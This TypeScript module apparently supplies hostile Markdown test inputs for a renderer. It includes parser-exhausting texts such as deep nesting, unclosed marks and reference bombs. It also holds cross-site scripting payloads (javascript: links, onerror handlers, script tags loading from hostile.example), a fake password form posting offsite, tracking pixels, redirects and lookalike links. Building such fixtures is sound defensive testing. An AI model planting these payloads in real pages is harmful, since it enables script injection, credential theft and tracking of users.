import { randomNumbers } from './hostile-html.ts';

/** Markdown that costs a parser far more time than its length suggests, or that runs, loads or hides something. */
interface HostileText {
  name: string;
  markdown: string;
}

/** Length of repeated texts, UTF-16 units; half of GitHub's longest. */
const LENGTH = 32_768;
const repeated = (text: string) => text.repeat(Math.floor(LENGTH / text.length));
const lines = (count: number, line: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => line(index)).join('\n');

/** Short texts that are repeated up to the length: marks that are never closed, and blocks within blocks. */
const REPEATED: Readonly<Record<string, string>> = {
  'deep quotes': '> ',
  'deep lists': '- ',
  'deep quotes and lists': '> - ',
  'quotes without an end': '> a\nb\n',
  'unclosed emphasis': '*x ',
  'unclosed strong emphasis': '**x ',
  'emphasis between words': 'a**b',
  'mixed emphasis': '*a_ ',
  'unclosed strikethrough': '~~x ',
  'unclosed brackets': '[',
  'unclosed links': '[a](',
  'unclosed titles': '[a](b "',
  'unclosed images': '![',
  'references without a definition': '[a][',
  'unclosed code': '`a``b',
  'unclosed fences': '```\n',
  'unclosed tags': '<a b="',
  'unclosed comments': '<!--',
  'unclosed declarations': '<!A ',
  'unclosed sections': '<![CDATA[',
  'blocks of HTML': '<div>\n\n',
  addresses: 'http://a.b ',
  'beginnings of addresses': 'http://',
  'addresses without a scheme': 'www.',
  'mail addresses': 'a@b.c',
  'angle brackets around addresses': '<http://a>',
  entities: '&#x110000;&amp;',
  'unclosed entities': '&#',
  'definitions without an address': '[a]:\n',
  tasks: '- [ ] x\n',
  rules: '* * *\n',
  'underlined headings': 'x\n-\n',
  escapes: '[\\',
  'NUL characters': '\0',
  'overrides of direction': '\u202etxt.exe ',
  'a long line': 'x',
  'line ends': '\n',
  tabs: '\t- ',
};

function* large(): Generator<HostileText> {
  for (const [name, text] of Object.entries(REPEATED)) yield { name, markdown: repeated(text) };
  yield { name: 'emphasis 50,000 times', markdown: '*x '.repeat(50_000) };
  yield { name: 'nested items', markdown: lines(360, (index) => `${' '.repeat(index)}- x`) };
  yield { name: 'code of all lengths', markdown: lines(360, (index) => `${'`'.repeat(index)}x`) };
  yield { name: 'a bomb of references', markdown: `[a]: ${'x'.repeat(30_000)}\n\n${'[a]'.repeat(10_000)}` };
  const definitions = lines(2000, (index) => `[a${index}]: http://x.example/${index}`);
  yield { name: 'many references', markdown: `${definitions}\n\n${lines(2000, (index) => `[a${index}]`)}` };
  yield { name: 'a wide table', markdown: `${'|a'.repeat(10_000)}|\n${'|-'.repeat(10_000)}|\n|x|` };
  yield {
    name: 'a bomb of cells',
    markdown: `${'|a'.repeat(500)}|\n${'|-'.repeat(500)}|\n${'|\n'.repeat(30_000)}`,
  };
}

/** What an author would write to run, load, ask or mislead. */
const TRAPS: Readonly<Record<string, string>> = {
  'links that run': '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](vbscript:x) <javascript:alert(1)>',
  'links of encoded schemes':
    '[a](javascript&colon;alert(1)) [b](&#106;avascript:alert(1)) [c](java\\\nscript:x)',
  'links to data': '[a](data:text/html;base64,PHNjcmlwdD4=) ![b](data:image/svg+xml;base64,PHN2Zz4=)',
  'references that run': '[a]\n\n[a]: javascript:alert(1) "title"',
  'links to this app': '[a](/dashboard/account) [b](//hostile.example/x) [c](#top) [d](?q=x)',
  'attributes in an address':
    '[a](https://x.example/"onclick="alert(1)) ![b](https://x.example/" onerror=alert(1))',
  'a title with a tag': '[a](https://x.example "\\"><script>alert(1)</script>")',
  'a script':
    'x <script>parent.document.title = "owned"</script>\n\n<script src="//hostile.example/x.js"></script>',
  'a script that is not closed': '<b>x</b>\n\n<script>alert(1)',
  'style elements':
    '<style>* { position: fixed; inset: 0 }</style>\n\n<link rel="stylesheet" href="//hostile.example">',
  'an image that runs': '<img src=x onerror=alert(1)> <svg onload=alert(1)><script>alert(1)</script></svg>',
  'a new page':
    '<meta http-equiv="refresh" content="0;url=//hostile.example"><base href="//hostile.example/">',
  'a form': '<form action="//hostile.example"><input name=password autofocus><button>Sign in</button></form>',
  frames:
    '<iframe src="//hostile.example" srcdoc="<script>alert(1)</script>"></iframe><object data=x></object>',
  'text over the page': '<div style="position:fixed;inset:0;z-index:9999;background:red">Sign in</div>',
  'images that track':
    '![a](https://hostile.example/pixel.png?u=1) <img src="//hostile.example/p" srcset="//b 2x">',
  'backgrounds that track':
    '<p style="background:url(//hostile.example/x)">x <td background="//hostile.example">',
  'a link that looks like another':
    '[https://github.com](https://gith\u0443b.example) [\u202ecod.exe](https://x.example)',
  'names of the page': '<a id="location" name="cookie">x</a> <p id=root class="fixed inset-0">y</p>',
  'a policy': '<meta http-equiv="Content-Security-Policy" content="img-src *">',
  'MathML and templates':
    '<math><mtext><img src=x onerror=alert(1)></mtext></math><template><script>1</script></template>',
  'the end of the page': '</body></html><script>alert(1)</script><!--<p>-->--!><p>x',
};

function randomMarkdown(seed: number): string {
  const random = randomNumbers(seed);
  const pieces = [
    ...Object.values(REPEATED),
    ...Object.values(TRAPS),
    '\n\n',
    ' ',
    '**',
    '](',
    '>',
    '|',
    '<b>',
  ];
  return Array.from({ length: 40 + seed * 20 }, () => pieces[random(pieces.length)]).join('');
}

/** Returns all hostile texts, random ones at the end. */
export function* hostileMarkdown(): Generator<HostileText> {
  yield* large();
  for (const [name, markdown] of Object.entries(TRAPS)) yield { name, markdown };
  for (let seed = 1; seed <= 20; seed++)
    yield { name: `random Markdown ${seed}`, markdown: randomMarkdown(seed) };
}
